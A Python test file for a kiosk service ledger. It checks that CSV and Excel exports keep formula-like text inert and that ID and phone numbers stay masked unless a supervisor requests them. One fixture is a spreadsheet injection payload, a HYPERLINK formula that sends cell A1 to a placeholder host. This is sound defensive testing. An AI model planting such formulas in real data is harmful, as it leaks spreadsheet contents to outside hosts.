"""Issue 18, items 5 and 8: the ledger's spreadsheets run nothing a citizen or helper typed, and
the API masks ID and phone numbers unless a supervisor asks, as the supervisor page does."""
import csv
import io
import zipfile

from openpyxl import load_workbook
from sqlalchemy import select

from kiosk.server.models import AuditEntry
from tests.server.api import Api
from tests.server.test_cases import PERSON
from tests.supervisor.web import Web, serve

APPLICANT = '=HYPERLINK("http://example.invalid/?"&A1,"点我")'
LOGS = ["+86 转人工", "-2+3 份材料", "@SUM(1,2)", "已办结"]


def _work_with_formulas(server) -> Api:
    helper = Api(server.url, server.helper_session(1, "1003"))
    kiosk = Api(server.url, server.device_token("kiosk"))
    for log in LOGS:
        serve(server, helper, 1, 1, log=log, kiosk=kiosk)
    assert helper.post("/api/v1/cases", {**PERSON, "applicant": APPLICANT}).status_code == 201
    return helper


def _csv_column(content: bytes, title: str) -> list[str]:
    table = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    return [row[table[0].index(title)] for row in table[1:]]


def _xlsx_column(content: bytes, title: str) -> list:
    with zipfile.ZipFile(io.BytesIO(content)) as book:  # the file itself: no cell is a formula
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in book.read(n) or b"<f " in book.read(n) for n in sheets)
    sheet = load_workbook(io.BytesIO(content)).active
    column = [c.value for c in sheet[1]].index(title) + 1
    cells = [sheet.cell(row, column) for row in range(2, sheet.max_row + 1)]
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    assert all(c.quotePrefix for c in cells if c.value[:1] in "=+-@")
    return [c.value for c in cells]


def test_api_exports_keep_formula_like_text_as_text(live_server):
    _work_with_formulas(live_server)
    chief = Api(live_server.url, live_server.helper_session(2, "1001"))
    services = chief.get("/api/v1/ledger/services", params={"format": "csv"}).content
    assert _csv_column(services, "工作日志") == ["'+86 转人工", "'-2+3 份材料", "'@SUM(1,2)", "已办结"]
    cases = chief.get("/api/v1/ledger/cases", params={"format": "csv"}).content
    assert _csv_column(cases, "申请人（单位）") == ["'" + APPLICANT]
    workbook = chief.get("/api/v1/ledger/services", params={"format": "xlsx"}).content
    assert _xlsx_column(workbook, "工作日志") == LOGS  # read exactly as typed
    workbook = chief.get("/api/v1/ledger/cases", params={"format": "xlsx"}).content
    assert _xlsx_column(workbook, "申请人（单位）") == [APPLICANT]


def test_supervisor_page_exports_keep_formula_like_text_as_text(sqlite_server):
    _work_with_formulas(sqlite_server)
    web = Web(sqlite_server)
    web.login()
    cases = web.get("/supervisor/ledger/export", params={"kind": "cases", "format": "csv"})
    assert _csv_column(cases.content, "申请人（单位）") == ["'" + APPLICANT]
    services = web.get("/supervisor/ledger/export", params={"kind": "services", "format": "xlsx"})
    assert _xlsx_column(services.content, "工作日志") == LOGS


def test_the_ledger_api_masks_numbers_unless_a_supervisor_asks(live_server):
    helper = _work_with_formulas(live_server)
    chief = Api(live_server.url, live_server.helper_session(2, "1001"))
    masked = chief.get("/api/v1/ledger/cases").json()["rows"][0]
    assert masked["id_number"] != PERSON["id_number"] and "*" in masked["id_number"]
    assert masked["phone"] == "139****5678"
    whole = chief.get("/api/v1/ledger/cases", params={"full": "true"}).json()["rows"][0]
    assert whole["id_number"] == PERSON["id_number"] and whole["phone"] == PERSON["phone"]
    refused = helper.get("/api/v1/ledger/cases", params={"full": "true"})
    assert refused.status_code == 403 and "完整" in refused.json()["error"]["message"]
    with live_server.database.read() as db:
        reads = db.scalars(select(AuditEntry.detail).where(AuditEntry.action == "ledger.read")
                           .order_by(AuditEntry.id)).all()
    assert [r["unmasked"] for r in reads] == [False, True]
